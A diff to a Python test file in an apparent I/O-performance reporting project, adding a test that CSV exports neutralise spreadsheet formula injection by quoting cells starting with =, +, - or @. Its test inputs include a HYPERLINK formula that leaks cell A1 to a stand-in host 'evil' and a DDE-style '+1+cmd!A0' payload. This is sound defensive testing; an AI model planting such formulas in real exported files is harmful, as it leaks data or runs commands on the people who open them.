@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import re
@@ -19,11 +20,14 @@ import polars as pl
 import pytest
 import yaml
 
+from iobands.reporting.document import Format as DocumentFormat
+from iobands.reporting.document import Table
+from iobands.reporting.document import written as document_of
 from iobands.reporting.openmetrics import history_metrics, state_metrics
 from iobands.results.export import csv_text, json_text, write_parquet
 from iobands.results.perflog import read_perflogs
 from iobands.site.site import Site
-from tests.factory import NOW, daily, write_perflog
+from tests.factory import NOW, daily, line, write_perflog
 from tests.reporting.sites import look
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -212,3 +216,19 @@ def test_a_pipe_is_written_to_and_a_link_is_replaced(iobands, root: Path) -> Non
     assert text == link.read_bytes()[:64] != b""
     assert pipe.is_fifo()
     assert not theirs.exists()
+
+
+LINK = '=HYPERLINK("http://evil?"&A1,"x")'
+
+
+@pytest.mark.parametrize("text", [LINK, "+1+cmd!A0", "-1+1", "@SUM(A1)"])
+def test_no_text_is_a_formula_in_a_spreadsheet(tmp_path: Path, text: str) -> None:
+    write_perflog(tmp_path, [line(stripe_count_asked="-1"), line(pattern=text)])
+    table = pl.read_csv(csv_text(read_perflogs(tmp_path)).encode())
+    assert table["pattern"].to_list()[1].lstrip("'").strip() == text.strip()
+    strings = table.select(pl.col(pl.String)).rows()
+    assert not any(cell and cell[0] in "=+-@\t\r" for row in strings for cell in row)
+    assert table["stripe_count_asked"].to_list()[0] == -1
+    page = document_of([Table(("name", "rate"), ((text, "-1.5"),))], DocumentFormat.CSV)
+    ((name, rate),) = list(csv.reader(page.splitlines()))[1:]
+    assert (name, rate) == (f"'{text}", "-1.5")
